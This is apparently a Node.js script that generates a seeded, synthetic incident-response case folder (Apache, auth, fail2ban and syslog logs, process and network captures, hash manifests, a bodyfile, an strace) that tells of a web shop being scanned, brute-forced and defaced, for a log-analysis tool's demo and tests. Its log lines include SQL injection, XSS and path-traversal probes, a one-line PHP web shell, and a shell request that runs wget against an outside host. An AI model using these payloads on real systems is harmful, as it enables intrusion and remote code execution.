// Writes resources/sample-case/: a small, synthetic but realistic case folder (a web shop probed,
// brute-forced, defaced and restarted), deterministic (seeded), used by `npm start` and the tests.
// Run: node scripts/make-sample-case.mjs   (the output is committed; re-run only to change the story)
import { mkdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', 'resources', 'sample-case');
let seed = 20240317;
const rnd = () => {
  seed = (seed * 1103515245 + 12345) % 2147483648;
  return seed / 2147483648;
};
const pick = (a) => a[Math.floor(rnd() * a.length)];
const MON = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const DAY = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const p2 = (n) => String(n).padStart(2, '0');
// The server runs in Europe/Berlin (CET, +0100 in March before the 31st).
const OFFSET_MIN = 60;
const local = (ms) => new Date(ms + OFFSET_MIN * 60000);
const clf = (ms) => {
  const d = local(ms);
  return `${p2(d.getUTCDate())}/${MON[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0100`;
};
const ctime = (ms) => {
  const d = local(ms);
  return `${DAY[d.getUTCDay()]} ${MON[d.getUTCMonth()]} ${p2(d.getUTCDate())} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} ${d.getUTCFullYear()}`;
};
const sys = (ms) => {
  const d = local(ms);
  return `${MON[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
};
const f2b = (ms) => {
  const d = local(ms);
  return `${d.getUTCFullYear()}-${p2(d.getUTCMonth() + 1)}-${p2(d.getUTCDate())} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())},${String(d.getUTCMilliseconds()).padStart(3, '0')}`;
};
// mod_unique_id (Apache 2.2 layout): time, IPv4, pid, counter, thread index; alphabet A-Z a-z 0-9 @ -
const UID_ALPHA = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789@-';
function uniqueId(ms, pid, counter, thread) {
  const b = Buffer.alloc(18);
  b.writeUInt32BE(Math.floor(ms / 1000), 0);
  b.set([192, 0, 2, 10], 4);
  b.writeUInt32BE(pid, 8);
  b.writeUInt16BE(counter & 0xffff, 12);
  b.writeUInt32BE(thread, 14);
  let out = '';
  for (let i = 0; i < 18; i += 3) {
    const n = (b[i] << 16) | (b[i + 1] << 8) | b[i + 2];
    out += UID_ALPHA[(n >> 18) & 63] + UID_ALPHA[(n >> 12) & 63] + UID_ALPHA[(n >> 6) & 63] + UID_ALPHA[n & 63];
  }
  return out;
}

const T0 = Date.UTC(2024, 2, 14, 23, 0, 0); // 15 Mar 2024 00:00 local
const HOUR = 3600e3;
const customers = Array.from({ length: 60 }, (_, i) => `198.18.${Math.floor(i / 20)}.${10 + (i % 200)}`);
const pages = ['/', '/index.php', '/catalog/shoes.html', '/catalog/bags.html', '/product.php?id=12', '/product.php?id=31', '/cart.php', '/checkout.php', '/static/site.css', '/static/app.js', '/images/logo.png', '/search.php?q=boots', '/account/login.php'];
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];
// Workers: 8 scoreboard slots; PIDs change at restarts (SIGHUP) and on a single-slot recycle.
let pids = [2301, 2302, 2303, 2304, 2305, 2306, 2307, 2308];
const counters = new Map();
const access = [];
const error = [];
const auth = [];
const f2bLog = [];
const syslog = [];

// Worker PIDs by time: every restart below (RESTARTS) gives every slot a new child; slot 3 is also
// recycled once (MaxRequestsPerChild) between restarts. Derived from the schedule, not from rnd(), so the
// rest of the story (and its counts) does not depend on it.
const RESTARTS = [T0 + 4 * HOUR + 2 * 60e3, T0 + 28 * HOUR + 40 * 60e3, T0 + 50 * HOUR];
const RECYCLE = { slot: 3, at: T0 + 14 * HOUR + 30 * 60e3 };
function pidFor(ms, slot) {
  const gen = RESTARTS.filter((t) => t <= ms).length;
  const recycled = slot === RECYCLE.slot && ms >= RECYCLE.at && gen === RESTARTS.filter((t) => t <= RECYCLE.at).length;
  return 2301 + gen * 700 + slot + (recycled ? 50 : 0);
}
function req(ms, ip, method, path, status, bytes, ref, ua) {
  const slot = Math.floor(rnd() * pids.length);
  const pid = pidFor(ms, slot);
  const c = (counters.get(pid) ?? 0) + 1;
  counters.set(pid, c);
  access.push([ms, `${ip} - - [${clf(ms)}] "${method} ${path} HTTP/1.1" ${status} ${bytes} "${ref}" "${ua}" ${uniqueId(ms, pid, c, slot)}`]);
}

// Normal traffic over three days.
for (let t = T0; t < T0 + 72 * HOUR; t += 20e3 + Math.floor(rnd() * 70e3)) {
  const ip = pick(customers);
  const path = pick(pages);
  req(t, ip, path === '/account/login.php' && rnd() < 0.3 ? 'POST' : 'GET', path, rnd() < 0.03 ? 404 : 200, 200 + Math.floor(rnd() * 40000), rnd() < 0.5 ? 'https://shop.example/' : '-', pick(agents));
}
// Scanner and attacks from 198.51.100.23 on day 2 (16 Mar) 02:10-02:40 UTC.
const attacker = '198.51.100.23';
const probes = [
  ['GET', '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir', 404],
  ['GET', '/../../../../etc/passwd', 400],
  ['GET', '/index.php?page=../../../../etc/passwd', 200],
  ['GET', "/product.php?id=12'%20UNION%20SELECT%20username,password%20FROM%20users--", 500],
  ['GET', '/search.php?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E', 200],
  ['GET', '/default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858', 404],
  ['GET', '/cgi-bin/test.cgi', 404],
  ['GET', '/phpmyadmin/index.php', 404],
  ['GET', '/wp-login.php', 404],
  ['GET', '/.env', 404],
  ['POST', '/upload.php', 200],
  ['GET', '/images/.cache/sh.php?cmd=id', 200],
  ['GET', '/images/.cache/sh.php?cmd=wget%20http://203.0.113.99/x.sh', 200],
];
let ta = T0 + 27 * HOUR + 10 * 60e3;
for (let i = 0; i < 160; i += 1) {
  const [m, p, s] = probes[i % probes.length];
  req(ta, attacker, m, p, s, s === 200 ? 1500 : 320, '-', i % 3 === 0 ? 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' : 'sqlmap/1.7.2#stable (https://sqlmap.org)');
  if (s === 404 || s === 400) {
    error.push([ta, `[${ctime(ta)}] [error] [client ${attacker}] File does not exist: /var/www/shop${p.split('?')[0].replace(/%c0%af|\.\./giu, '')}`]);
  }
  ta += 3e3 + Math.floor(rnd() * 9e3);
}
// POST burst to /index.php from one client (defacement), 16 Mar 03:00 UTC.
let tp = T0 + 28 * HOUR;
for (let i = 0; i < 400; i += 1) {
  req(tp, '203.0.113.45', 'POST', '/index.php', 200, 51, '-', 'python-requests/2.31.0');
  tp += 200 + Math.floor(rnd() * 600);
}
// Segfault storm then restarts.
let ts = T0 + 28 * HOUR + 5 * 60e3;
for (let i = 0; i < 900; i += 1) {
  error.push([ts, `[${ctime(ts)}] [notice] child pid ${4000 + i} exit signal Segmentation fault (11)`]);
  ts += 500 + Math.floor(rnd() * 1500);
}
error.push([ts, `[${ctime(ts)}] [error] server reached MaxClients setting, consider raising the MaxClients setting`]);
function restart(t, kind, via) {
  if (kind === 'hup') {
    error.push([t, `[${ctime(t)}] [notice] SIGHUP received.  Attempting to restart`]);
  } else {
    error.push([t, `[${ctime(t)}] [notice] caught SIGTERM, shutting down`]);
  }
  error.push([t + 2000, `[${ctime(t + 2000)}] [notice] Apache/2.2.22 (Ubuntu) PHP/5.3.10 configured -- resuming normal operations`]);
  pids = pids.map((p) => p + 600 + Math.floor(rnd() * 50));
  if (via !== null) {
    auth.push([t - 4000, `${sys(t - 4000)} shop sudo:    admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/etc/init.d/apache2 ${via}`]);
    auth.push([t - 4000, `${sys(t - 4000)} shop sudo: pam_unix(sudo:session): session opened for user root by admin(uid=1000)`]);
  }
}
restart(T0 + 28 * HOUR + 40 * 60e3, 'hup', 'restart');
restart(T0 + 50 * HOUR, 'term', 'stop');
restart(T0 + 4 * HOUR + 2 * 60e3, 'hup', null); // weekly logrotate at 04:02 local: no auth.log trace
// Brute force on SSH from 203.0.113.45, then a success (compromise) and a new account.
let tb = T0 + 26 * HOUR;
const users = ['root', 'admin', 'test', 'oracle', 'postgres', 'ubuntu', 'guest'];
for (let i = 0; i < 240; i += 1) {
  const u = pick(users);
  const port = 40000 + Math.floor(rnd() * 20000);
  const invalid = u !== 'root' && u !== 'admin';
  if (invalid) {
    auth.push([tb, `${sys(tb)} shop sshd[${7000 + i}]: Invalid user ${u} from 203.0.113.45 port ${port}`]);
  }
  auth.push([tb, `${sys(tb)} shop sshd[${7000 + i}]: Failed password for ${invalid ? 'invalid user ' : ''}${u} from 203.0.113.45 port ${port} ssh2`]);
  tb += 2000 + Math.floor(rnd() * 4000);
}
auth.push([tb, `${sys(tb)} shop sshd[7311]: Accepted password for admin from 203.0.113.45 port 51234 ssh2`]);
auth.push([tb, `${sys(tb)} shop sshd[7311]: pam_unix(sshd:session): session opened for user admin by (uid=0)`]);
auth.push([tb + 60e3, `${sys(tb + 60e3)} shop sudo:    admin : TTY=pts/1 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash backup2`]);
auth.push([tb + 61e3, `${sys(tb + 61e3)} shop useradd[7402]: new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash`]);
auth.push([tb + 90e3, `${sys(tb + 90e3)} shop sudo:    admin : TTY=pts/1 ; PWD=/var/www/shop ; USER=root ; COMMAND=/bin/cp /tmp/index.php /var/www/shop/index.php`]);
// Routine activity.
for (let t = T0; t < T0 + 72 * HOUR; t += HOUR) {
  auth.push([t + 17 * 60e3, `${sys(t + 17 * 60e3)} shop CRON[${9000 + Math.floor(rnd() * 900)}]: pam_unix(cron:session): session opened for user root by (uid=0)`]);
  syslog.push([t + 17 * 60e3, `${sys(t + 17 * 60e3)} shop CRON[${9000 + Math.floor(rnd() * 900)}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)`]);
}
for (let t = T0 + 5 * 60e3; t < T0 + 72 * HOUR; t += 6 * HOUR) {
  auth.push([t, `${sys(t)} shop sshd[${3000 + Math.floor(rnd() * 900)}]: Accepted publickey for admin from 192.0.2.50 port ${50000 + Math.floor(rnd() * 9000)} ssh2: RSA SHA256:Zq3Vf1cJ0Wd4l0c4sJ2yQk1H2f8xXb3m7mV1t5Q8a9E`]);
}
// monit + fail2ban chain (seed 002).
let tf = T0 + 26 * HOUR + 3 * 60e3;
f2bLog.push([T0 + 60e3, `${f2b(T0 + 60e3)} fail2ban.server         [811]: INFO    Starting Fail2ban v0.11.2`]);
f2bLog.push([T0 + 62e3, `${f2b(T0 + 62e3)} fail2ban.jail           [811]: INFO    Jail 'sshd' started`]);
f2bLog.push([T0 + 63e3, `${f2b(T0 + 63e3)} fail2ban.jail           [811]: INFO    Jail 'apache-dos' started`]);
for (let i = 0; i < 5; i += 1) {
  f2bLog.push([tf, `${f2b(tf)} fail2ban.filter         [811]: INFO    [sshd] Found 203.0.113.45 - ${f2b(tf).slice(0, 19)}`]);
  tf += 7000;
}
f2bLog.push([tf, `${f2b(tf)} fail2ban.actions        [811]: NOTICE  [sshd] Ban 203.0.113.45`]);
f2bLog.push([tf + 600e3, `${f2b(tf + 600e3)} fail2ban.actions        [811]: NOTICE  [sshd] Unban 203.0.113.45`]);
const tdos = T0 + 27 * HOUR + 20 * 60e3;
auth.push([tdos, `${sys(tdos)} shop monit[1200]: Apache DOS Attempt: ${attacker}`]);
f2bLog.push([tdos + 3000, `${f2b(tdos + 3000)} fail2ban.filter         [811]: INFO    [apache-dos] Found ${attacker} - ${f2b(tdos).slice(0, 19)}`]);
f2bLog.push([tdos + 4000, `${f2b(tdos + 4000)} fail2ban.actions        [811]: NOTICE  [apache-dos] Ban ${attacker}`]);
f2bLog.push([tdos + 3600e3, `${f2b(tdos + 3600e3)} fail2ban.actions        [811]: NOTICE  [apache-dos] Unban ${attacker}`]);
syslog.push([T0 + 28 * HOUR + 5 * 60e3, `${sys(T0 + 28 * HOUR + 5 * 60e3)} shop kernel: [123456.789012] apache2[4001]: segfault at 0 ip 00007f3a2b1c4d5e sp 00007ffd5a6b7c80 error 4 in libphp5.so[7f3a2b000000+5a0000]`]);

const sortLines = (a) => a.sort((x, y) => x[0] - y[0]).map((x) => x[1]);
rmSync(root, { recursive: true, force: true });
const write = (rel, content, mtimeMs) => {
  const file = join(root, rel);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, content);
  const t = new Date(mtimeMs);
  utimesSync(file, t, t);
};
const accessLines = sortLines(access);
const day = (i) => T0 + i * 24 * HOUR;
const accessOf = (from, to) => access.filter((a) => a[0] >= from && a[0] < to).sort((x, y) => x[0] - y[0]).map((x) => x[1]);
// Rotated daily: access.log (day 3), access.log.1 (day 2), access.log.2.gz (day 1).
write('var/log/apache2/access.log.2.gz', gzipSync(`${accessOf(day(0), day(1)).join('\n')}\n`), day(1));
write('var/log/apache2/access.log.1', `${accessOf(day(1), day(2)).join('\n')}\n`, day(2));
write('var/log/apache2/access.log', `${accessOf(day(2), day(3)).join('\n')}\n`, day(3));
write('var/log/apache2/error.log', `${sortLines(error).join('\n')}\n`, day(3));
write('var/log/auth.log', `${sortLines(auth).join('\n')}\n`, day(3));
write('var/log/syslog', `${sortLines(syslog).join('\n')}\n`, day(3));
write('var/log/fail2ban.log', `${sortLines(f2bLog).join('\n')}\n`, day(3));
write('live_response/network/netstat-an.txt', [
  'Active Internet connections (servers and established)',
  'Proto Recv-Q Send-Q Local Address           Foreign Address         State',
  'tcp        0      0 0.0.0.0:22              0.0.0.0:*               LISTEN',
  'tcp        0      0 0.0.0.0:80              0.0.0.0:*               LISTEN',
  ...Array.from({ length: 40 }, (_, i) => `tcp        0      0 192.0.2.10:80           198.51.100.23:${33000 + i}       SYN_RECV`),
  ...Array.from({ length: 12 }, (_, i) => `tcp        0      0 192.0.2.10:80           ${customers[i]}:${44000 + i}       ESTABLISHED`),
  ...Array.from({ length: 25 }, (_, i) => `tcp        0      0 192.0.2.10:80           ${customers[i + 5]}:${45000 + i}       TIME_WAIT`),
  '',
].join('\n'), day(1) + 28 * HOUR);
write('live_response/process/ps-ef.txt', [
  'UID          PID    PPID  C STIME TTY          TIME CMD',
  'root           1       0  0 Mar15 ?        00:00:03 /sbin/init',
  'root        2300       1  0 03:40 ?        00:00:00 /usr/sbin/apache2 -k start',
  ...pids.map((p) => `www-data    ${p}    2300  2 03:40 ?        00:00:09 /usr/sbin/apache2 -k start`),
  'www-data    7777       1 97 03:12 ?        01:02:11 /tmp/.x/kworkerd -o pool.example:3333',
  '',
].join('\n'), day(1) + 28 * HOUR);
write('md5sums.txt', `d41d8cd98f00b204e9800998ecf8427e  var/www/shop/empty.txt\n`, day(3));
console.log(`sample case: ${accessLines.length} access, ${error.length} error, ${auth.length} auth, ${f2bLog.length} fail2ban, ${syslog.length} syslog lines → ${root}`);

// Host-state captures (issue 7): the server-status page that monit's apache_spy.sh saved when the
// DoS alarm fired (seed 002), with ExtendedStatus: the attacker and its /24 neighbours hold most
// workers in W/R for minutes (the slow-read sign of seed 001). The live-response captures get the
// `date` line a collection script writes first, so they keep their time without file times (git).
function writeHostStateCaptures() {
  const zoneName = 'CET';
  const dateLine = (ms) => {
    const d = local(ms);
    return `${DAY[d.getUTCDay()]} ${MON[d.getUTCMonth()]} ${p2(d.getUTCDate())} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} ${zoneName} ${d.getUTCFullYear()}`;
  };
  const statusTime = (ms) => {
    const d = local(ms);
    const long = ['Sunday', 'Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday'][d.getUTCDay()];
    return `${long}, ${p2(d.getUTCDate())}-${MON[d.getUTCMonth()]}-${d.getUTCFullYear()} ${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} ${zoneName}`;
  };
  const captured = tdos - 60e3;
  const restarted = T0 + 26 * HOUR + 50 * 60e3;
  const up = Math.round((captured - restarted) / 1000);
  const workers = [];
  let slot = 0;
  const add = (mode, ss, client, request) => {
    workers.push({ slot: slot, pid: mode === '.' ? '-' : String(4100 + slot), mode, ss, client, request });
    slot += 1;
  };
  for (let i = 0; i < 24; i += 1) add(i % 6 === 5 ? 'R' : 'W', 240 + Math.floor(rnd() * 900), attacker, i % 6 === 5 ? '' : 'GET /catalog/big-catalogue.pdf HTTP/1.1');
  for (let i = 0; i < 36; i += 1) add('W', 180 + Math.floor(rnd() * 1100), `198.51.100.${30 + (i % 18)}`, 'GET /media/banner.mp4 HTTP/1.1');
  for (let i = 0; i < 6; i += 1) add('K', Math.floor(rnd() * 4), customers[i], 'GET /css/shop.css HTTP/1.1');
  add('W', 0, '127.0.0.1', 'GET /server-status HTTP/1.1');
  for (let i = 0; i < 3; i += 1) add('_', 10 + Math.floor(rnd() * 40), customers[10 + i], 'GET / HTTP/1.1');
  while (slot < 150) add('.', 0, '', '');
  const busy = workers.filter((w) => w.mode !== '_' && w.mode !== '.').length;
  const idle = workers.filter((w) => w.mode === '_').length;
  const esc = (s) => s.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/>/gu, '&gt;');
  const row = (w) =>
    `<tr><td><b>${w.slot}-2</b></td><td>${w.pid}</td><td>0/${w.slot % 40}/${w.slot * 13}</td><td>${w.mode === '_' || w.mode === '.' ? w.mode : `<b>${w.mode}</b>`}\n` +
    `</td><td>${(w.slot / 100).toFixed(2)}</td><td>${w.ss}</td><td>0</td><td>${w.ss * 1000}</td><td>0.0</td><td>0.${p2(w.slot % 100)}</td><td>${(w.slot / 10).toFixed(2)}\n` +
    `</td><td>${w.client}</td><td>${w.client === '' ? '' : 'http/1.1'}</td><td nowrap>${w.client === '' ? '' : 'shop.example:80'}</td><td nowrap>${esc(w.request)}</td></tr>\n\n`;
  const scoreboard = workers.map((w) => w.mode).join('') + '.'.repeat(256 - workers.length);
  const html = `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">
<html><head>
<title>Apache Status</title>
</head><body>
<h1>Apache Server Status for localhost (via 127.0.0.1)</h1>

<dl><dt>Server Version: Apache/2.4.38 (Debian) OpenSSL/1.1.1d</dt>
<dt>Server MPM: prefork</dt>
<dt>Server Built: 2023-10-12T15:44:02
</dt></dl><hr /><dl>
<dt>Current Time: ${statusTime(captured)}</dt>
<dt>Restart Time: ${statusTime(restarted)}</dt>
<dt>Parent Server Config. Generation: 2</dt>
<dt>Parent Server MPM Generation: 1</dt>
<dt>Server uptime:  ${Math.floor(up / 3600)} hours ${Math.floor((up % 3600) / 60)} minutes ${up % 60} seconds</dt>
<dt>Server load: 4.21 3.02 1.40</dt>
<dt>Total accesses: 48211 - Total Traffic: 2.1 GB - Total Duration: 99120331</dt>
<dt>CPU Usage: u31.2 s9.84 cu0 cs0 - .976% CPU load</dt>
<dt>11.5 requests/sec - 523.4 kB/second - 45.6 kB/request - 2055.9 ms/request</dt>
<dt>${busy} requests currently being processed, ${idle} idle workers</dt>
</dl><pre>${scoreboard.match(/.{1,64}/gu).join('\n')}</pre>
<p>Scoreboard Key:<br />
"<b><code>_</code></b>" Waiting for Connection,
"<b><code>S</code></b>" Starting up,
"<b><code>R</code></b>" Reading Request,<br />
"<b><code>W</code></b>" Sending Reply,
"<b><code>K</code></b>" Keepalive (read),
"<b><code>.</code></b>" Open slot with no current process<br />
</p>


<table border="0"><tr><th>Srv</th><th>PID</th><th>Acc</th><th>M</th><th>CPU
</th><th>SS</th><th>Req</th><th>Dur</th><th>Conn</th><th>Child</th><th>Slot</th><th>Client</th><th>Protocol</th><th>VHost</th><th>Request</th></tr>

${workers.map(row).join('')}</table>
 <hr /> <table>
 <tr><th>Srv</th><td>Child Server number - generation</td></tr>
 <tr><th>PID</th><td>OS process ID</td></tr>
 <tr><th>SS</th><td>Seconds since beginning of most recent request</td></tr>
 </table>
<hr />
<address>Apache/2.4.38 (Debian) Server at localhost Port 80</address>
</body></html>
`;
  write('live_response/apache/server-status.html', html, captured);
  // the live-response captures, dated by their collection script
  const when = day(1) + 28 * HOUR;
  for (const rel of ['live_response/network/netstat-an.txt', 'live_response/process/ps-ef.txt']) {
    const file = join(root, rel);
    const body = readFileSync(file, 'utf8');
    write(rel, `${dateLine(when)}\n${body}`, when);
  }
}
writeHostStateCaptures();

// Files and processes (seed 004): two hash manifests of the web root (a baseline taken from inside it,
// the later one from /; index.php modified, a web shell appeared, a page removed), a UAC-style bodyfile,
// and a strace of an Apache child (per-PID file 4001.log, -ttt) that dies of SIGSEGV — the PID the error
// log names in "child pid 4001 exit signal Segmentation fault (11)". Uses no random numbers, so the
// files written above stay as they were.
async function addFilesAndProcesses() {
  const { createHash } = await import('node:crypto');
  const { readFileSync } = await import('node:fs');
  const md5 = (s) => createHash('md5').update(s).digest('hex');
  const sec = (ms) => String(Math.floor(ms / 1000));
  const web = '/var/www/shop';
  const files = [
    ['index.php', '<?php include "catalog.php"; render_home(); ?>\n'],
    ['cart.php', '<?php session_start(); show_cart(); ?>\n'],
    ['checkout.php', '<?php require "pay.php"; checkout(); ?>\n'],
    ['product.php', '<?php show_product((int) $_GET["id"]); ?>\n'],
    ['search.php', '<?php search(htmlspecialchars($_GET["q"])); ?>\n'],
    ['account/login.php', '<?php login_form(); ?>\n'],
    ['catalog/shoes.html', '<html><body>Shoes</body></html>\n'],
    ['catalog/bags.html', '<html><body>Bags</body></html>\n'],
    ['static/site.css', 'body { font-family: sans-serif; }\n'],
    ['static/app.js', 'console.log("shop");\n'],
    ['images/logo.png', 'PNG logo bytes\n'],
    ['empty.txt', ''],
  ];
  const defaced = '<html><body><h1>Hacked by x</h1></body></html>\n';
  const shell = '<?php system($_GET["cmd"]); ?>\n';
  const installed = T0 - 6 * HOUR; // the last deploy, the evening before the story starts
  const baselineAt = T0 - 3 * HOUR; // taken after the last deploy
  const defacedAt = T0 + 28 * HOUR + 4 * 60e3; // during the POST burst to /index.php
  const shellAt = T0 + 27 * HOUR + 31 * 60e3; // before the scanner requests /images/.cache/sh.php
  const nowAt = day(1) + 29 * HOUR; // with the live-response captures
  // baseline: md5sum run inside the web root ("./index.php")
  write('hashes/baseline/md5sums.txt', files.map(([p, c]) => `${md5(c)}  ./${p}`).join('\n') + '\n', baselineAt);
  // after the incident: run from / over the same tree; index.php changed, sh.php appeared, bags.html gone
  const now = files
    .filter(([p]) => p !== 'catalog/bags.html')
    .map(([p, c]) => `${md5(p === 'index.php' ? defaced : c)}  ${web}/${p}`);
  now.splice(7, 0, `${md5(shell)}  ${web}/images/.cache/sh.php`);
  write('hashes/2024-03-16/md5sums.txt', now.join('\n') + '\n', nowAt);
  // UAC bodyfile (fls -m style, TSK 3): MD5|name|inode|mode|UID|GID|size|atime|mtime|ctime|crtime
  const body = [];
  let inode = 131000;
  const entry = (name, mode, uid, size, a, m, c, b) => body.push(`0|${name}|${inode++}|${mode}|${uid}|${uid}|${size}|${sec(a)}|${sec(m)}|${sec(c)}|${b === 0 ? 0 : sec(b)}`);
  entry(web, 'd/drwxr-xr-x', 33, 4096, T0 + 27 * HOUR + 20 * 60e3, shellAt, shellAt, 0);
  for (const [p, c] of files) {
    if (p === 'catalog/bags.html') {
      continue;
    }
    const isIndex = p === 'index.php';
    entry(`${web}/${p}`, 'r/rrw-r--r--', 33, isIndex ? defaced.length : c.length, isIndex ? T0 + 28 * HOUR + 5 * 60e3 : T0 + 12 * HOUR, isIndex ? defacedAt : installed, isIndex ? defacedAt : installed, 0);
  }
  entry(`${web}/images/.cache`, 'd/drwxr-xr-x', 33, 4096, shellAt, shellAt, shellAt, 0);
  entry(`${web}/images/.cache/sh.php`, 'r/rrw-r--r--', 33, shell.length, T0 + 27 * HOUR + 50 * 60e3, shellAt, shellAt, 0);
  entry(`${web}/catalog/bags.html (deleted)`, 'r/rrw-r--r--', 33, 0, 0, 0, 0, 0);
  entry('/tmp/index.php', 'r/rrw-r--r--', 1000, defaced.length, defacedAt, defacedAt - 120e3, defacedAt - 120e3, 0);
  entry('/tmp/.x/kworkerd', 'r/rrwxr-xr-x', 33, 2_093_016, T0 + 28 * HOUR - 48 * 60e3, T0 + 28 * HOUR - 50 * 60e3, T0 + 28 * HOUR - 50 * 60e3, 0);
  entry('/etc/passwd', 'r/rrw-r--r--', 0, 1783, T0 + 60 * HOUR, tb + 61e3, tb + 61e3, 0);
  entry('/home/backup2', 'd/drwxr-xr-x', 1002, 4096, tb + 61e3, tb + 61e3, tb + 61e3, 0);
  entry('/etc/apache2/apache2.conf', 'r/rrw-r--r--', 0, 7224, T0 + 28 * HOUR + 40 * 60e3, installed, installed, 0);
  write('bodyfile/bodyfile.txt', body.join('\n') + '\n', nowAt);
  // strace -ttt -p 4001 -o 4001.log: the child that handled a POST /index.php and died of SIGSEGV
  let died = error.find(([, line]) => line.includes('child pid 4001 exit signal'))?.[0];
  if (died === undefined) {
    died = T0 + 28 * HOUR + 5 * 60e3 + 1500;
    error.push([died, `[${ctime(died)}] [notice] child pid 4001 exit signal Segmentation fault (11)`]);
    write('var/log/apache2/error.log', `${sortLines(error).join('\n')}\n`, day(3));
  }
  const t = (ms) => (ms / 1000).toFixed(6);
  const s0 = died - 900;
  const trace = [
    [0, 'accept4(3, {sa_family=AF_INET, sin_port=htons(51514), sin_addr=inet_addr("203.0.113.45")}, [16], SOCK_CLOEXEC) = 12'],
    [3, 'read(12, "POST /index.php HTTP/1.1\\r\\nHost: shop.example\\r\\nUser-Agent: python-requests/2.31.0\\r\\n"..., 8000) = 412'],
    [5, 'stat("/var/www/shop/index.php", {st_mode=S_IFREG|0644, st_size=47, ...}) = 0'],
    [6, 'open("/var/www/shop/index.php", O_RDONLY|O_CLOEXEC) = 13'],
    [7, 'read(13, "<html><body><h1>Hacked by x</h1></body></html>\\n", 8192) = 47'],
    [8, 'close(13) = 0'],
    [9, 'open("/tmp/.x/payload", O_RDONLY) = -1 ENOENT (No such file or directory)'],
    [10, 'mmap(NULL, 262144, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = 0x7f3a2b3c0000'],
    [11, 'setsockopt(12, SOL_SOCKET, SO_RCVTIMEO, "\\2003\\341\\1\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0", 16) = 0'],
    [12, '--- SIGSEGV {si_signo=SIGSEGV, si_code=SEGV_MAPERR, si_addr=NULL} ---'],
    [13, 'rt_sigaction(SIGSEGV, {sa_handler=SIG_DFL, sa_mask=[], sa_flags=SA_RESTORER, sa_restorer=0x7f3a2a8a04b0}, NULL, 8) = 0'],
    [14, 'chdir("/etc/apache2") = 0'],
    [15, 'kill(4001, SIGSEGV) = 0'],
    [16, 'rt_sigreturn({mask=[]}) = 0'],
    [17, '--- SIGSEGV {si_signo=SIGSEGV, si_code=SI_USER, si_pid=4001, si_uid=33} ---'],
    [18, '+++ killed by SIGSEGV +++'],
  ];
  write('strace/4001.log', trace.map(([dt, text]) => `${t(s0 + dt * 50)} ${text}`).join('\n') + '\n', s0 + 18 * 50);
  const untouched = readFileSync(join(root, 'md5sums.txt'), 'utf8');
  if (!untouched.includes('empty.txt')) {
    throw new Error('md5sums.txt changed unexpectedly');
  }
  console.log(`files and processes: 2 manifests (${files.length} and ${now.length} lines), bodyfile (${body.length} entries), strace/4001.log (${trace.length} lines)`);
}
await addFilesAndProcesses();
